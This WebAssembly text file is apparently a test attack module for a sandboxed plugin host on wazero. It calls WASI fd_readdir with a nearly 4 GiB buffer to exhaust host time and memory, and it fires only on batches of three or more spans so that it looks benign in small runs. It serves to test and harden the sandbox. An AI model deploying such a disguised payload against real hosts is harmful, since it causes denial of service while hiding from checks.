;; Attacks: WASI fd_readdir of the mount's root with a buffer of nearly
;; 4 GiB. wazero reads from the host, in one call, as many entries as the
;; buffer could hold, past any deadline, and keeps them with the
;; descriptor: on a directory of a million entries one call took 7.7-9.8 s
;; and kept 214 MiB (attack round 13).
;; It reports on the first span the call's WASI errno as mount.errno and
;; the bytes it filled as mount.bufused.
;; A batch of one or two spans behaves; three or more attack.
;;
;; Build: wat2wasm mount_readdir.wat -o mount_readdir.wasm
(module
  (import "wasmcol" "len" (func $len (param i32) (result i32)))
  (import "wasmcol" "edit" (func $edit (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_readdir"
    (func $readdir (param i32 i32 i32 i64 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 0) "\01\03\00\00\00\00\0a\00\00\00sandbox.ok\04\01")
  ;; Two SetAttr edits on span 0, Int values at 322 and 354.
  (data (i32.const 300)
    "\01\03\00\00\00\00\0b\00\00\00mount.errno\02\00\00\00\00\00\00\00\00"
    "\01\03\00\00\00\00\0d\00\00\00mount.bufused\02\00\00\00\00\00\00\00\00")
  (func $attack
    ;; the buffer at 1024; bufused at 400
    (i64.store (i32.const 322) (i64.extend_i32_u
      (call $readdir (i32.const 3) (i32.const 1024) (i32.const 0xfffffff0) (i64.const 0) (i32.const 400))))
    (i64.store (i32.const 354) (i64.extend_i32_u (i32.load (i32.const 400))))
    (drop (call $edit (i32.const 300) (i32.const 62))))
  (func (export "wasmcol_abi_version") (result i32) (i32.const 1))
  (func (export "wasmcol_signals") (result i32) (i32.const 1))
  (func (export "wasmcol_init") (result i32) (i32.const 0))
  (func (export "wasmcol_process") (param i32) (result i32)
    (if (i32.ge_u (call $len (i32.const 3)) (i32.const 3))
      (then (call $attack)))
    (drop (call $edit (i32.const 0) (i32.const 22)))
    (i32.const 0)))
